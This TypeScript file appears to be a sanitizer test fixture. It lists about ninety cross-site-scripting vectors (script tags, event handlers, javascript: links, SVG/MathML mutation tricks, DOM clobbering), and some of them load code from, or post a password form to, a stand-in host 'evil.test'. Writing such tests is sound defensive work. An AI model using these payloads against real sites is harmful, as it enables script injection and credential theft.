/** What runs when a vector works; no page of the guide knows the name. */
const run = "window.ran=1";
const picture = `<img src=x onerror=${run}>`;

/**
 * One row for each class of attack published by DOMPurify, OWASP's cheat sheet, sanitize-html, Rails' sanitizer and
 * bluemonday: what it tries, and how it is written down.
 */
export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
  ["a plain script", `<script>${run}</script>`],
  ["a script from elsewhere", '<SCRIPT SRC="https://evil.test/x.js"></SCRIPT>'],
  ["a script tag with a slash for a space", '<script/XSS src="https://evil.test/x.js"></script>'],
  ["a script in brackets of its own", `<<SCRIPT>${run};//<</SCRIPT>`],
  ["a script within a script's name", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["a script that never ends", "<SCRIPT SRC=//evil.test/x.js?<B>"],
  ["a script with a bracket in a quote", `<SCRIPT a=">" '' SRC="https://evil.test/x.js"></SCRIPT>`],
  ["a script in another namespace", `<svg><script>${run}</script></svg>`],
  ["a script of SVG that names its source", "<svg><script href=data:,window.ran=1 /></svg>"],
  ["a handler on a picture", picture],
  ["a handler behind slashes", `<img/src=x/onerror=${run}//>`],
  ["a handler behind odd signs", `<body onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${run}>`],
  ["a handler on any tag", `<p onmouseover="${run}" onclick="${run}">x</p>`],
  ["a handler on an unknown tag", `<xss onfocus=${run} tabindex=1 autofocus id=x>x</xss>`],
  [
    "a handler on a permitted tag that animates",
    `<strong onanimationstart=${run} style=animation:x>x</strong>`,
  ],
  ["a handler on details", `<details open ontoggle=${run}>x</details>`],
  ["a handler on a film", `<video><source onerror=${run}></video><audio src=x onerror=${run}>`],
  ["a handler on SVG", `<svg onload=${run}><animate onbegin=${run} attributeName=x dur=1s></svg>`],
  ["a handler on MathML", `<math><mtext onmouseover=${run}>x</mtext></math>`],
  [
    "a handler on a form's field",
    `<form onsubmit=${run}><input onfocus=${run} autofocus><button>x</button></form>`,
  ],
  ["an attribute that never ends", `<a href="https://ok.test/" title="<img src=x onerror=${run}>`],
  ["an attribute in back quotes", `<img src=\`x\`\` onerror=${run}>`],
  ["a null character in a tag's name", `<scr\0ipt>${run}</scr\0ipt><img sr\0c=x onerror=${run}>`],
  ["a link to a script", `<a href="javascript:${run}">x</a>`],
  ["a link to a script in capitals", `<a href="JaVaScRiPt:${run}">x</a>`],
  [
    "a link to a script in numbers",
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run}">x</a>`,
  ],
  ["a link to a script in long numbers", `<a href="&#0000106avascript&#x003A;${run}">x</a>`],
  ["a link to a script with a named colon", `<a href="javascript&colon;${run}">x</a>`],
  ["a link to a script over many lines", `<a href="\nj\na\nv\na\ns\nc\nr\ni\np\nt\n:\n${run}">x</a>`],
  ["a link to a script with a tab inside", `<a href="jav&#x09;ascript:${run}">x</a>`],
  ["a link to a script behind control characters", `<a href="\x01\x02 javascript:${run}">x</a>`],
  ["a link to a script behind a space of Unicode", `<a href="\u2028\u00a0\u3000javascript:${run}">x</a>`],
  [
    "a link to a script behind an address",
    `<a href="https:javascript:${run}">x</a><a href="x:javascript:${run}">y</a>`,
  ],
  ["a link to a script of Visual Basic", `<a href='vbscript:msgbox("x")'>x</a>`],
  ["a link to a page written down in it", `<a href="data:text/html,<script>${run}</script>">x</a>`],
  [
    "a link to a page kept by the browser",
    '<a href="blob:https://guide.test/1">x</a><a href="filesystem:x">y</a>',
  ],
  ["a link that opens a program", "<a href='aim: &c:\\windows\\calc.exe'>x</a><a href='intent://x'>y</a>"],
  [
    "a link to another host by two slashes",
    '<a href="//evil.test">x</a><a href="/\\evil.test">y</a><a href="\\\\evil.test">z</a>',
  ],
  ["a link with two slashes behind a tab", '<a href="/\t/evil.test">x</a><a href="/%2f%2fevil.test">y</a>'],
  ["a link that says another house's name", '<a href="https://guide.test@evil.test/">x</a>'],
  [
    "a link that tells where it was clicked",
    `<a href="https://ok.test" ping="https://evil.test" target=_blank>x</a>`,
  ],
  ["a link of SVG", `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`],
  [
    "a map over a picture",
    `<map name=m><area href="javascript:${run}"></map><img usemap=#m src=/images/cms-images/x/y.png>`,
  ],
  [
    "a picture from a script",
    `<img src="javascript:${run}"><img dynsrc="javascript:${run}" lowsrc="javascript:${run}">`,
  ],
  ["a picture written down in its address", '<img src="data:image/svg+xml,<svg/onload=window.ran=1>">'],
  [
    "a picture with sources of its own",
    `<img srcset="https://evil.test/x 1x" src=https://ok.test/x><picture><source srcset=x></picture>`,
  ],
  ["a picture over plain http", '<img src="http://evil.test/x.png"><img src="//evil.test/x.png">'],
  ["a frame", `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>`],
  ["a frame that never ends", "<iframe src=https://evil.test/ <a"],
  ["frames of a set", `<FRAMESET><FRAME SRC="javascript:${run}"></FRAMESET>`],
  [
    "an object and a player",
    `<object data="data:text/html,x"><param name=url value=x></object><embed src="javascript:${run}">`,
  ],
  ["another base", '<base href="https://evil.test/"><a href="x">x</a>'],
  ["another place after a second", `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
  [
    "a style sheet",
    '<link rel=stylesheet href="https://evil.test/x.css"><style>@import "https://evil.test/x.css"</style>',
  ],
  ["a style on a tag", '<p style="background:url(javascript:x);position:fixed;inset:0">x</p>'],
  [
    "a style of the page borrowed",
    '<p class="fixed inset-0">x</p><a class="action bar" href="https://ok.test">y</a>',
  ],
  ["a background", `<table background="javascript:${run}"><td background="javascript:${run}">x</td></table>`],
  [
    "a form that asks for a password",
    '<form action="https://evil.test"><input name=password><button formaction=https://evil.test>x</button></form>',
  ],
  [
    "a name of the document",
    "<img name=cookie src=https://ok.test/x><form id=createElement><input name=attributes></form>",
  ],
  [
    "a name of the page",
    '<a id="main" name="location" href="https://ok.test">x</a><h2 id="__proto__">y</h2>',
  ],
  ["a tag of ours with a prototype's name", "<constructor>x</constructor><p __proto__=x constructor=y>z</p>"],
  [
    "attributes that scripts of pages listen to",
    '<a href="https://ok.test" data-method="delete" data-remote=true is=x>x</a>',
  ],
  ["a script under a comment", `<!--<img src="--><img src=x onerror=${run}//">`],
  ["a comment that ends early", `<!--> ${picture} --><!---> ${picture} --!> ${picture}`],
  ["a comment for an old browser", `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
  ["an instruction", `<?xml version="1.0"?><? echo('<scr)'; echo('ipt>${run}</script>'); ?>`],
  [
    "a section of character data",
    `<![CDATA[<script>${run}</script>]]><svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  ],
  ["an entity of a document type", `<!DOCTYPE x [<!ENTITY y "<script>${run}</script>">]>&y;`],
  [
    "text that only a page without scripts reads",
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  ],
  ["text of a style that ends early", `<b><style><style/><img src=x onerror=${run}></style>`],
  ["text of a title that ends early", `<title><a title="</title><img src=x onerror=${run}>"></title>`],
  ["text of an area that ends early", `<textarea>x</textarea><!--</textarea>${picture}-->`],
  ["text of a choice", `<select><option><style></option></select>${picture}</style></option>`],
  ["text of a frame in a choice", `<option><iframe></select><b><script>${run}</script>`],
  ["text of a listing", `<listing>&lt;img onerror="${run}" src=x&gt;<t t></listing>`],
  ["text without an end", `<plaintext><script>${run}</script>`],
  ["text of an example", `<xmp><p title="</xmp>${picture}"></xmp><noembed><p title="</noembed>${picture}">`],
  [
    "a shadow tree",
    `<template><s><template>${picture}</template></s></template><div><template shadowrootmode=open>${picture}</template></div>`,
  ],
  ["a paragraph that leaves SVG", `<svg></p><style><a id="</style>${picture}">`],
  ["a style in SVG read as text in HTML", `<svg><style>&lt;img src=x onerror=${run}&gt;</style></svg>`],
  [
    "HTML within SVG",
    `<svg><foreignObject><p>x<script>${run}</script></p></foreignObject><desc>${picture}</desc></svg>`,
  ],
  ["a title of SVG", `<svg><title><style><a title="</style>${picture}"></title></svg>`],
  [
    "a glyph that leaves MathML",
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ],
  ["a form within a form of MathML", `<form><math><mtext></form><form><mglyph><style></math>${picture}`],
  [
    "an annotation of MathML",
    `<math><annotation-xml encoding="text/html"><style><img title="</style>${picture}"></style></annotation-xml></math>`,
  ],
  [
    "a table that gives its children away",
    `<table><a href="javascript:${run}">x<tr><td>y</td></tr>${picture}</table>`,
  ],
  [
    "tables in tables that change places",
    `<table><caption><svg><title><table></caption></table><style><a id="</style>${picture}">`,
  ],
  ["marks that close in the wrong order", `<b><i><a href="javascript:${run}">x</b></i></a><p>${picture}`],
  [
    "a link in a link",
    `<a href="https://ok.test"><table><td><a href="javascript:${run}">x</a></td></table></a>`,
  ],
  [
    "an animation of a link's address",
    `<svg><a><animate attributeName=href values=javascript:${run} /><text>x</text></a></svg>`,
  ],
  [
    "something used from elsewhere",
    `<svg><use href="data:image/svg+xml,<svg id='x'/>#x"></use><image href=x onerror=${run}></svg>`,
  ],
  ["letters of another table of characters", `+ADw-script+AD4-${run}+ADw-/script+AD4-<meta charset=utf-7>`],
  ["half a letter", `\ud800<img src=x onerror=${run}>\udc00`],
  [
    "an island of data",
    '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:x">]]></C></X></xml><SPAN DATASRC=#I></SPAN>',
  ],
  [
    "an instruction of another house's pages",
    '<t:set attributeName="innerHTML" to="x"><p v-html="x" ng-app x-data="x" hx-get="/x">{{x}}</p>',
  ],
  [
    "a button that opens the page's own dialogs",
    "<button popovertarget=x commandfor=y command=show-modal>x</button><dialog open>y</dialog>",
  ],
];
